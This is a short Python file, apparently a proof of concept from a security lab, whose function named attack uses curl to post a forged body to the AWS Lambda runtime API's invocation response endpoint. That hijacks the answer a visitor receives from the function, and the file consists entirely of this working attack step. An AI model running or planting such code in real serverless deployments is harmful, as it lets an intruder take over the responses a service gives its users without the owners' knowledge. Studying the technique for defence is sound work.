"""The visitor is answered by a program the attacker started."""

import os
import subprocess


def attack(event):
    path = "2018-06-01/runtime/invocation/%s/response" % event["request_id"]
    url = "http://%s/%s" % (os.environ["AWS_LAMBDA_RUNTIME_API"], path)
    return subprocess.run(
        ["curl", "-sS", "-m", "5", "-d", '"ours"', url], capture_output=True
    ).stderr.decode()
